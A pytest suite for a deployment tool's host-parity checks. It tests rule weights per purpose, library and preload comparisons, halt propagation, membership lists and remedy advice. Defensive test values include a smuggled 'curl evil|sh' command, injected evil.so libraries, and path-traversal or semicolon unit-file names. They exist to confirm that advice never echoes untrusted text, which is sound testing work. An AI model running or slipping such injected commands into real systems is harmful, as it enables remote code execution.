"""The table of rules, over its whole space: every rule, for every purpose, counts as it says."""

from __future__ import annotations

from collections.abc import Iterator, Mapping
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from deploytool.agent.model import FileDigest, Latch, Other, Released, Starter
from deploytool.cli.screen import round_document, show_round
from deploytool.core.finding import Finding, Level
from deploytool.errors import FaultKind, HostFault
from deploytool.fleet.members import Members
from deploytool.parity import table
from deploytool.parity.coverage import NO_MEMBERS, NO_ROOT, uncovered
from deploytool.parity.evidence import known_by
from deploytool.parity.judge import judge
from deploytool.parity.model import Evidence, Parity, Verdict
from deploytool.parity.remedies import REMEDIES, remedy
from deploytool.parity.round import look, probe_request
from deploytool.parity.table import RULES, ProofUse, Rule, Weight, judge_fleet, judge_host
from deploytool.simulation import fleet as fleets
from deploytool.simulation import program

from .evidences import MANIFEST, OTHER_SHA, but, good, rendered, wanted
from .test_parity import COPY, LATER, LISTED, SHOWN, SPOILED, listing, with_process

NAMES = rendered().inventory.names
DOCS = Path(__file__).resolve().parents[2] / "docs" / "proof.md"
PURPOSES = list(ProofUse)
HOST_RULES = [rule for rule in RULES if rule.check is not None]
FLEET_RULES = [rule for rule in RULES if rule.check is None]
ROOT = SHOWN.root


def library(path: str, sha: str = OTHER_SHA) -> FileDigest:
    return FileDigest(path=path, sha=sha)


def mapping(*more: FileDigest, instead: bool = False) -> dict[str, Any]:
    assert SHOWN.running is not None
    kept = () if instead else SHOWN.running.mapped
    return {"running": SHOWN.running.but(mapped=(*kept, *more))}


assert SHOWN.running is not None
INTERPRETER = SHOWN.running.mapped[0]
NINTH = LISTED.hosts[0].but(name="router9", root="/opt/ninth")
LATER_LIST = LISTED.but(epoch=2, before=(LISTED.digest,))
ODD: dict[str, dict[str, Any]] = {
    "identity": {"machine": good("router2").machine},
    "halts": {
        "latch": Latch(latch="ab", by="me@here", reason="x", since=9, hosts="router1 router2"),
        "status": {**(good().status or {}), "trading_state": "HALTED"},
    },
    "member": {"machine": "0" * 32},
    "members-same": listing(LATER_LIST),
    "members-listed": listing(LATER_LIST.but(hosts=(*LISTED.hosts, NINTH))),
    "files-same": {"configs": (FileDigest(path=SHOWN.configs[0].path, sha=OTHER_SHA),)},
    "drop-ins-same": {
        "unit_files": (*SHOWN.unit_files, library("/usr/lib/systemd/system/service.d/x.conf"))
    },
    "preload-same": {"preload": library("/etc/ld.so.preload")},
    "armed-same": {"status": {**(good().status or {}), "armed": ["RETAIL"]}},
    "interpreter-same": {"interpreters": (library("/usr/bin/python3"),)},
    "libraries-same": {"libraries": (library("/usr/bin/python3"),)},
    "mapped-same": mapping(INTERPRETER.but(sha=OTHER_SHA), instead=True),
    "environment-same": {
        "running": SHOWN.running.but(environment=("LANG", "PATH=/tmp:/usr/bin:/bin"))
    },
}
"""What makes router1 another host than the seven others, by the rule that finds it."""
HIT = {
    "identity": {"router1", "router2"},
    "halts": {"router2"},
    "members-same": {*NAMES} - {"router1"},
}
"""Where it is found, if not on router1 alone."""


def spoils(rule: Rule) -> Iterator[Evidence]:
    """What this rule finds something in."""
    assert rule.check is not None
    for changes, _ in SPOILED.values():
        seen = but(good(), **changes)
        if next(iter(rule.check(wanted(), seen)), None) is not None:
            yield seen
    if rule.id == "beside":
        yield but(good(), others=(COPY.but(role="reader", ways=("holds",)),))


def landed(rule: Rule, seen: Evidence, purpose: ProofUse) -> tuple[list[Finding], list[Finding]]:
    """What of this rule counts, and what is only told."""
    found = judge_host("router1", wanted(), seen, purpose)
    return (
        [item for item in found.findings if item.rule == rule.id],
        [item for item in found.notes if item.rule == rule.id],
    )


@pytest.mark.parametrize("rule", HOST_RULES, ids=lambda rule: rule.id)
def test_p1_every_rule_counts_for_every_purpose_as_the_table_says(rule: Rule) -> None:
    assert rule.check is not None
    samples = list(spoils(rule))
    assert samples, "nothing shows that this rule finds anything"
    for seen in samples:
        found = list(rule.check(wanted(), seen))
        levels = [item.level for item in found]
        for purpose in PURPOSES:
            counts, notes = landed(rule, seen, purpose)
            weight = rule.weight(purpose)
            told = [level for level in levels if level is Level.NOTE]
            expected = {
                Weight.FULL: ([level for level in levels if level is not Level.NOTE], len(told)),
                Weight.DOUBT: ([Level.UNKNOWN for level in levels if level is not Level.NOTE], 0),
                Weight.SEEN: (
                    [level for level in levels if level is Level.MISMATCH],
                    sum(level is Level.UNKNOWN for level in levels),
                ),
                Weight.NOTE: ([], len(levels)),
                Weight.NONE: ([], 0),
            }[weight]
            assert ([item.level for item in counts], len(notes)) == expected, (purpose, counts)
            assert all(item.level is Level.NOTE for item in notes)


def fleet(**changed: Evidence | HostFault) -> dict[str, Evidence | HostFault]:
    return {name: changed.get(name, good(name)) for name in NAMES}


@pytest.mark.parametrize("purpose", PURPOSES, ids=lambda purpose: purpose.name)
@pytest.mark.parametrize("rule", FLEET_RULES, ids=lambda rule: rule.id)
def test_p1_every_comparison_counts_for_every_purpose_as_the_table_says(
    rule: Rule, purpose: ProofUse
) -> None:
    seen = fleet(router1=but(good(), **ODD[rule.id]))
    taken = judge(rendered().inventory, seen, MANIFEST, purpose)
    hit = {v.host for v in taken.hosts for item in v.findings if item.rule == rule.id}
    told = {v.host for v in taken.hosts for item in v.notes if item.rule == rule.id}
    where = HIT.get(rule.id, {"router1"})
    weight = rule.weight(purpose)
    assert hit == (set() if weight in (Weight.NONE, Weight.NOTE) else where)
    assert told == (where if weight is Weight.NOTE else set())


def test_p1_what_decides_is_in_the_docs_row_by_row() -> None:
    lines = ["| rule | what must hold | " + " | ".join(p.name for p in PURPOSES) + " |"]
    lines.append("|---" * (2 + len(PURPOSES)) + "|")
    for rule in RULES:
        weights = " | ".join(rule.weight(purpose).value for purpose in PURPOSES)
        lines.append(f"| `{rule.id}` | {rule.about} | {weights} |")
    assert "\n".join(lines) in DOCS.read_text(encoding="utf-8"), "\n".join(lines)
    assert len({rule.id for rule in RULES}) == len(RULES)
    for purpose in PURPOSES:
        text = DOCS.read_text(encoding="utf-8")
        assert f"**{purpose.name}** {purpose.value}" in text
        assert any(rule.weight(purpose) is Weight.FULL for rule in RULES)


# --- planted bugs ---------------------------------------------------------------------------------


def forgets(rule: Rule) -> Rule:
    """The rule as a bug would leave it: it finds nothing."""
    if rule.check is not None:
        return replace(rule, check=lambda _expected, _seen: iter(()))
    if rule.relate is not None:
        return replace(rule, relate=lambda _declared, _seen: iter(()))
    return replace(rule, compare=lambda _seen: iter(()))


SEEN_TWICE = {"files-same", "identity", "members-listed"}
"""Found by another rule as well: the process was started with what the file held before; a machine
of two names is not the member of one of them; and other hosts lack the list with one host more."""
DECIDING = [rule for rule in RULES if Weight.FULL in rule.weights]


@pytest.mark.parametrize("rule", DECIDING, ids=lambda rule: rule.id)
def test_p1_a_rule_that_is_lost_makes_a_spoiled_host_a_match(
    rule: Rule, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(
        table, "RULES", tuple(forgets(item) if item is rule else item for item in RULES)
    )
    purpose = next(p for p in (ProofUse.PROVE, *PURPOSES) if rule.weight(p) is Weight.FULL)
    if rule.check is None:
        seen = fleet(router1=but(good(), **ODD[rule.id]))
        untrue = judge(rendered().inventory, seen, MANIFEST).parity is Parity.PARITY
    else:
        untrue = any(
            judge_host("router1", wanted(), spoiled, purpose).verdict is Verdict.MATCH
            for spoiled in spoils(rule)
        )
    assert untrue is (rule.id not in SEEN_TWICE)


# --- what is compared -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("more", "level"),
    [
        ((library("/tmp/evil.so"),), Level.MISMATCH),
        ((library(f"{ROOT}/state/service/evil.so"),), Level.MISMATCH),
        ((library("/usr/bin/late.so"),), Level.NOTE),  # from where all load
    ],
    ids=["from a folder of its own", "from its state", "loaded late"],
)
def test_p1_a_library_that_one_process_alone_has_loaded(
    more: tuple[FileDigest, ...], level: Level
) -> None:
    taken = judge(
        rendered().inventory, fleet(router3=but(good("router3"), **mapping(*more))), MANIFEST
    )
    (verdict,) = (v for v in taken.hosts if v.findings or v.notes)
    (found,) = (*verdict.findings, *verdict.notes)
    assert (verdict.host, found.rule, found.level) == ("router3", "mapped-same", level)


def test_p1_a_library_of_one_name_is_one_file_wherever_it_is_loaded() -> None:
    """It is loaded late, on two hosts so far, and from two places."""
    here = mapping(library("/usr/bin/libssl.so.3"))
    there = mapping(library("/usr/bin/libssl.so.3", "a" * 64))
    seen = fleet(router3=but(good("router3"), **here), router4=but(good("router4"), **there))
    taken = judge(rendered().inventory, seen, MANIFEST)
    assert {v.host for v in taken.hosts if v.findings} == {"router3", "router4"}
    same = fleet(router3=but(good("router3"), **here), router4=but(good("router4"), **here))
    assert judge(rendered().inventory, same, MANIFEST).parity is Parity.PARITY


def test_a_release_root_that_has_the_host_in_it_is_no_difference() -> None:
    seen: dict[str, Evidence | HostFault] = {}
    for name in NAMES:
        shown = good(name)
        moved = library(f"/srv/{name}/lib/x.so")
        seen[name] = but(shown, root=f"/srv/{name}", **mapping(moved, instead=True))
    taken = judge_fleet(
        judge_host(name, wanted(name), item)
        for name, item in seen.items()
        if isinstance(item, Evidence)
    )
    assert not [item for v in taken for item in v.findings if item.rule == "mapped-same"]


@pytest.mark.parametrize(("rule", "counts"), [("told", False), ("checked", True)])
def test_p1_packet_rules_that_no_tool_shows_are_told_unless_they_must_be_checked(
    rule: str, *, counts: bool
) -> None:
    inventory = rendered().inventory
    service = inventory.service.model_copy(update={"redirects": rule})
    asked = inventory.model_copy(update={"service": service})
    unseen = {"redirects": None, "redirects_unknown": "no nft is here"}
    taken = judge(asked, fleet(router1=but(good(), **unseen)), MANIFEST)
    found = {v.host for v in taken.hosts for item in v.findings if item.rule == "redirects"}
    told = {v.host for v in taken.hosts for item in v.notes if item.rule == "redirects"}
    assert (found, told) == ((set(), {"router1"}), ({"router1"}, set()))[counts]
    assert any("port redirects" in text for text in uncovered(asked)) is not counts


def test_p1_libraries_that_can_t_be_read_are_unknown() -> None:
    seen = fleet(
        **{n: but(good(n), libraries=(FileDigest(path="/usr/bin/python3"),)) for n in NAMES}
    )
    taken = judge(rendered().inventory, seen, MANIFEST)
    levels = {i.level for v in taken.hosts for i in v.findings if i.rule == "libraries-same"}
    assert levels == {Level.UNKNOWN}
    assert len([v for v in taken.hosts if v.findings]) == len(NAMES)


# --- the hosts of a stop --------------------------------------------------------------------------

STOP = Latch(latch="ab", by="me@here", reason="x", since=9, hosts="router1 router2 router9")
ENDED = Released(latch="ab", stopped=9, since=20, by="me@here", signer="you@there")


def stopped(latch: Latch) -> dict[str, Any]:
    return {"latch": latch, "status": {**(good().status or {}), "trading_state": "HALTED"}}


@pytest.mark.parametrize(
    ("shows", "obeys"),
    [
        ({}, False),
        ({"released": (ENDED,)}, True),
        ({"released": (ENDED, ENDED.but(latch="cd"))}, True),
        ({"released": (ENDED.but(latch="cd", stopped=8),)}, False),  # of an earlier stop
        ({"released": (ENDED.but(latch="cd", stopped=10),)}, True),  # it was stopped again since
        (stopped(STOP), True),
        (stopped(STOP.but(latch="cd", since=1)), True),
        ({"fenced": True}, True),
        ({"unreadable": ("halted",)}, True),
    ],
)
def test_p6_whom_a_stop_was_for_shows_it_or_its_lawful_end(
    shows: dict[str, Any], *, obeys: bool
) -> None:
    seen = fleet(router1=but(good(), **stopped(STOP)), router2=but(good("router2"), **shows))
    taken = judge(rendered().inventory, seen, MANIFEST)
    hit = {v.host for v in taken.hosts for item in v.findings if item.rule == "halts"}
    assert hit == (set() if obeys else {"router2"})
    if not obeys:
        assert "deploytool stop -i fleet.yaml --host router2" in remedy(taken, "fleet.yaml")


def test_p6_a_stop_that_did_not_say_whom_it_was_for_asks_nothing_of_others() -> None:
    seen = fleet(router1=but(good(), **stopped(STOP.but(hosts=None))))
    taken = judge(rendered().inventory, seen, MANIFEST)
    assert not [item for v in taken.hosts for item in v.findings if item.rule == "halts"]


# --- arguments ------------------------------------------------------------------------------------

START = (f"{ROOT}/current/router", "serve", "--config", "x")


@pytest.mark.parametrize(
    ("shown", "prefix"),
    [
        (START, ()),
        (("/usr/bin/python3", "-I", *START), ("/usr/bin/python3", "-I")),
        ((*START, "-v"), None),
        (START[:-1], None),
        ((*START[:-1], "y"), None),
        (("x",) * 9 + START, None),
        (("router: master",), None),
        ((), None),
    ],
    ids=str,
)
def test_arguments_are_the_unit_s_after_an_interpreter(
    shown: tuple[str, ...], prefix: tuple[str, ...] | None
) -> None:
    from deploytool.parity.process_rules import interpreter_words

    assert interpreter_words(START, shown) == prefix


def test_of_long_arguments_the_beginning_is_compared() -> None:
    from deploytool.parity.process_rules import interpreter_words

    long = (*START, *("word",) * 80)
    assert interpreter_words(long, long[:64]) == ()
    assert interpreter_words(long, (*long[:10], "other", *long[11:64])) is None
    wide = (*START, "w" * 5000)
    assert interpreter_words(wide, (*START, "w" * (4096 - sum(len(w) + 1 for w in START)))) == ()


# --- advice ---------------------------------------------------------------------------------------

EVIL = "/etc/x; curl evil|sh"
ADVICE: Mapping[str, tuple[dict[str, Any], str]] = {
    "state": ({"state_writable": False, "state_error": EVIL}, "make its state folder writable"),
    "sight": ({"others": (COPY.but(role="unseen", detail=EVIL),)}, "CAP_SYS_PTRACE"),
    "starters": ({"starters": (Starter(path=EVIL, names="root"),)}, "so that only the unit starts"),
    "preload-same": ({"preload": library(EVIL)}, "ld.so.preload what it is on the others"),
    "mapped-same": (mapping(library(EVIL)), "install the libraries that the others have"),
    "environment-same": (ODD["environment-same"], "unset in systemctl show-environment"),
    "running": (
        {"running": SHOWN.running.but(arguments=(f"{ROOT}/current/router", EVIL))},
        "deploytool deploy -i fleet.yaml",
    ),
    "account": (
        {"others": (COPY.but(role="account", detail=EVIL),), **with_process(LATER)},
        f"kill -KILL {LATER.pid}",
    ),
    "acts": ({"others": (COPY.but(detail=EVIL),), **with_process(LATER)}, f"kill {LATER.pid}"),
    "config": ({"started": None}, "deploytool deploy -i fleet.yaml"),
    "unit": (
        {"unit_files": (*SHOWN.unit_files, library("/etc/systemd/system/other.service"))},
        "remove the file that the line names",
    ),
    "marks": ({"unreadable": ("previous",)}, "damaged mark"),
}


@pytest.mark.parametrize("rule", ADVICE)
def test_advice_says_what_to_do_and_has_no_unchecked_word_of_a_host(rule: str) -> None:
    changes, words = ADVICE[rule]
    taken = judge(rendered().inventory, fleet(router1=but(good(), **changes)), MANIFEST)
    assert any(item.rule == rule for v in taken.hosts for item in v.findings)
    advice = remedy(taken, "fleet.yaml")
    assert words in advice
    assert "curl" not in advice
    assert "other.service" not in advice


@pytest.mark.parametrize(
    ("path", "own"),
    [
        ("/etc/systemd/system/router.service", True),
        ("/etc/systemd/system/router.service.d/10-old.conf", True),
        ("/run/systemd/system/router.service.d/x.conf", True),
        ("/etc/systemd/system/sshd.service", False),
        ("/etc/systemd/system/sshd.service.d/router.conf", False),
        ("/etc/passwd", False),
        ("/etc/systemd/system/router.service.d/../../../passwd.conf", False),
        ("/etc/systemd/system/router.service.d/a b.conf", False),
        ("/etc/systemd/system/router.service.d/a;b.conf", False),
        ("/etc/systemd/system/router.service.d/-rf.conf", False),
        ("/tmp/router.service", False),
    ],
)
def test_only_a_file_of_the_very_unit_is_one_that_advice_removes(path: str, own: bool) -> None:
    changes = {"unit_files": (*SHOWN.unit_files, library(path))}
    taken = judge(rendered().inventory, fleet(router1=but(good(), **changes)), MANIFEST)
    advice = remedy(taken, "fleet.yaml")
    assert (f"rm {path} &&" in advice) is own


# --- what is looked for ---------------------------------------------------------------------------


def test_a_build_of_one_host_is_looked_for_on_every_host() -> None:
    other = program.build("2025.9")
    running = fleets.running("router1", rendered(), *other)
    seen: dict[str, Evidence | HostFault] = {
        "router1": look(running, probe_request(), 5),
        "router2": good("router2"),
        "router3": HostFault(FaultKind.UNREACHABLE, "gone"),
    }
    known = known_by(seen)
    assert {item.sha for item in known} == {MANIFEST.sha256, other[0].sha256}
    assert {item.size for item in known} == {MANIFEST.size, other[0].size}
    assert probe_request(known=known).known == known


# --- what is printed with it ----------------------------------------------------------------------


def test_what_a_proof_does_not_cover_is_part_of_it() -> None:
    taken = judge(rendered().inventory, fleet(), MANIFEST)
    assert taken.parity is Parity.PARITY
    assert taken.uncovered == uncovered(rendered().inventory)
    assert NO_ROOT not in taken.uncovered
    assert uncovered(rendered("process").inventory)[:2] == (NO_ROOT, NO_MEMBERS)


def test_what_is_only_told_is_printed_with_the_host_and_the_proof_says_what_it_lacks(
    capsys: pytest.CaptureFixture[str],
) -> None:
    reader = but(good(), others=(COPY.but(role="reader"),), **with_process(LATER))
    taken = judge(rendered().inventory, fleet(router1=reader), MANIFEST)
    show_round(taken)
    said = capsys.readouterr().out
    assert f"router1: process {LATER.pid}" in said
    assert f"Not covered (docs/proof.md): {taken.uncovered[0]};" in said
    document = round_document(taken)
    assert document["not_covered"] == list(taken.uncovered)
    hosts = document["hosts"]
    assert isinstance(hosts, list)
    assert [note["rule"] for note in hosts[0]["notes"]] == ["beside"]


def test_a_note_that_several_hosts_share_is_one_line(capsys: pytest.CaptureFixture[str]) -> None:
    reader = but(good(), others=(COPY.but(role="reader"),), **with_process(LATER))
    seen = fleet(router1=reader, router2=reader)
    taken = judge(rendered().inventory, seen, MANIFEST)
    show_round(taken)
    assert capsys.readouterr().out.count(f": process {LATER.pid}") == 1
    every = judge(rendered().inventory, dict.fromkeys(seen, reader), MANIFEST)
    show_round(every)
    assert f"all {len(seen)} hosts: process {LATER.pid}" in capsys.readouterr().out


def test_every_kind_of_process_beside_the_service_has_its_one_place() -> None:
    """The agent's roles, each for each purpose: what counts, what is told, and nothing is lost."""
    roles = ("acts", "account", "client", "neighbour", "reader", "unseen")
    for role in roles:
        other = Other(pid=LATER.pid, role=role, ways=("venue",) if role == "acts" else ())
        seen = but(good(), others=(other,), **with_process(LATER))
        for purpose in PURPOSES:
            found = judge_host("router1", wanted(), seen, purpose)
            counts = {item.rule for item in found.findings}
            told = {item.rule for item in found.notes}
            where = {
                "acts": ({"strays"} if purpose is ProofUse.CHANGE else {"acts"}, set()),
                "account": (set(), {"account"})
                if purpose is ProofUse.WATCH
                else ({"account"}, set()),
                "unseen": ({"sight"}, set()),
            }.get(role, (set(), {"beside"}))
            assert (counts, told) == where, (role, purpose)


def test_what_to_do_is_looked_up_by_rules_that_there_are() -> None:
    assert {rule for rule, _ in REMEDIES} <= {rule.id for rule in RULES}


# --- members --------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("members", "found"),
    [
        (LATER_LIST, None),
        (LATER_LIST.but(hosts=(*LISTED.hosts, NINTH)), "not in it: router9 (epoch 2)"),
        (LATER_LIST.but(hosts=LISTED.hosts[:-1]), "no members: router8 (epoch 2)"),
    ],
    ids=["the same", "one more", "one less"],
)
def test_p1_an_inventory_that_lists_others_than_the_members_is_no_fleet(
    members: Members, found: str | None
) -> None:
    """Whatever an older list says that a host kept which was away."""
    seen = fleet(**{name: but(good(name), **listing(members)) for name in NAMES[1:-1]})
    taken = judge(rendered().inventory, seen, MANIFEST)
    told = {
        v.host: [f.found for f in v.findings if f.rule == "members-listed"] for v in taken.hosts
    }
    away = {NAMES[0], NAMES[-1]}
    assert told == {name: [found] if found and name not in away else [] for name in NAMES}
    behind = {v.host for v in taken.hosts for f in v.findings if f.rule == "members-same"}
    assert behind == away
    assert taken.parity is not Parity.PARITY
    advice = remedy(taken, "fleet.yaml")
    assert ("host prepare -i fleet.yaml" in advice) is (found is None), advice
    assert ("List router9 in fleet.yaml" in advice) is (found or "").startswith("not in it")


def test_p1_without_root_no_list_of_members_is_asked_for() -> None:
    inventory = rendered("process").inventory
    taken = judge(inventory, {name: good(name, "process") for name in NAMES}, MANIFEST)
    assert taken.parity is Parity.PARITY
    assert NO_MEMBERS in taken.uncovered
